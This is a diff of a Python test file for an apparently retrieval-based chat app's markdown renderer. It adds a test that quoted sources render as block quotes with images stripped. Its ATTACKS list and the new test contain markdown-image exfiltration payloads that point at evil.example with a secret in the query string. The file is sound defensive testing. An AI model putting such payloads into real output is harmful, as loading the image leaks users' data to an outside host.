@@ -6,7 +6,15 @@ from __future__ import annotations
 import pytest
 from markdown_it import MarkdownIt
 
-from ui.render import neutralise_images, safe_pieces, snippet, source_label, sources_heading, timing_caption
+from ui.render import (
+    answer_markdown,
+    neutralise_images,
+    safe_pieces,
+    snippet,
+    source_label,
+    sources_heading,
+    timing_caption,
+)
 
 ATTACKS = [
     "![x](https://evil.example/pixel.png?q=secret)",
@@ -97,3 +105,14 @@ def test_sources_heading_counts_citations_and_names_nearest_documents():
     assert sources_heading(sources, abstained=True) == (
         "Sources (3 · nearest documents, none answered the question)"
     )
+
+
+def test_the_quote_under_an_answer_is_a_block_quote_and_carries_no_image():
+    quote = "From [1] Returns policy: \u201c30 days from delivery ![x](https://evil.example/p.png)\u201d"
+    answer = {"answer": f"You have 30 days [1].\n\n{quote}"}  # a stored message keeps no `quote` of its own
+    markdown = answer_markdown(answer)
+    assert markdown.startswith("You have 30 days [1].\n\n> From [1] Returns policy: ")
+    tokens = [token.type for token in MarkdownIt("commonmark").parse(markdown)]
+    assert "blockquote_open" in tokens and not image_sources(markdown)
+    # Without a quote (older answers, abstentions) the text is shown as it is.
+    assert answer_markdown({"answer": "Not in the docs."}) == "Not in the docs."
